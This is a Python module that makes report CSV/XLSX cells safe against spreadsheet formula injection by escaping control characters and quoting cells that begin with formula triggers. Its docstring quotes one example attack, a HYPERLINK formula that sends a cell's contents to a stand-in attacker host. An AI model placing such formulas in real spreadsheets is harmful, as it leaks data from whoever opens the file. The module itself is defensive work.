"""Text cells a spreadsheet will not evaluate: the one place report CSV/XLSX cells are made safe.

Why: ids and names come from ERPs and input files; a cell such as
``=HYPERLINK("http://evil.example/?d="&A2,"Click")`` becomes a live formula when an auditor
opens the report in Excel or LibreOffice (OWASP "CSV injection").

The rule (documented in reconciliation/README.md, reversible):

1. Control characters other than tab, LF and CR (U+0000-U+0008, U+000B, U+000C, U+000E-U+001F,
   U+007F) are written as ``\\xNN``; a literal backslash is written as ``\\\\``. (XLSX cannot
   hold those characters at all, and a terminal would interpret them.)
2. A cell whose text then starts with ``=``, ``+``, ``-``, ``@``, tab, CR, LF or ``'`` gets one
   leading ``'`` -- unless it is a plain decimal number (``^-?[0-9]+(\\.[0-9]+)?$``), which is
   a value, not a formula, and stays exact. (``'`` is in the set so that stripping exactly one
   leading ``'`` always gives back the text of step 1.)

Recovering the original: strip one leading ``'``, then replace ``\\xNN`` by the character and
``\\\\`` by ``\\``. Numeric (non-text) columns are untouched. Vectorised with Arrow.
"""

from __future__ import annotations

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

CONTROL_CHARS = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)]
CONTROL_RE = "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f]"
TRIGGER_RE = "^[=+\\-@\\t\\r\\n']"
PLAIN_NUMBER_RE = "^-?[0-9]+(\\.[0-9]+)?$"


def safe_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A string array made safe by the module's rule (nulls stay null)."""
    values = pc.replace_substring(values, "\\", "\\\\")
    if pc.any(pc.match_substring_regex(values, CONTROL_RE)).as_py():
        for char in CONTROL_CHARS:
            values = pc.replace_substring(values, char, f"\\x{ord(char):02x}")
    trigger = pc.and_(
        pc.match_substring_regex(values, TRIGGER_RE),
        pc.invert(pc.match_substring_regex(values, PLAIN_NUMBER_RE)),
    )
    if not pc.any(trigger).as_py():
        return values
    kind = values.type
    quoted = pc.binary_join_element_wise(pa.scalar("'", kind), values, pa.scalar("", kind))
    return pc.if_else(trigger, quoted, values)


def safe_table(table: pa.Table) -> pa.Table:
    """Every string column of an Arrow table made safe; other types untouched."""
    for i, field in enumerate(table.schema):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            table = table.set_column(i, field, safe_array(table.column(i)))
    return table


def safe_text_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Every cell as safe text (for the XLSX sheets, which hold text only)."""
    if frame.empty:
        return frame.astype(str)
    columns = {
        str(name): safe_array(pa.array(frame[name].astype(str).to_numpy(), pa.string()))
        for name in frame.columns
    }
    return pd.DataFrame(
        {name: array.to_numpy(zero_copy_only=False) for name, array in columns.items()},
        index=frame.index,
    )


def safe_text(value: str) -> str:
    """One value made safe (same rule)."""
    return safe_array(pa.array([value], pa.string()))[0].as_py()
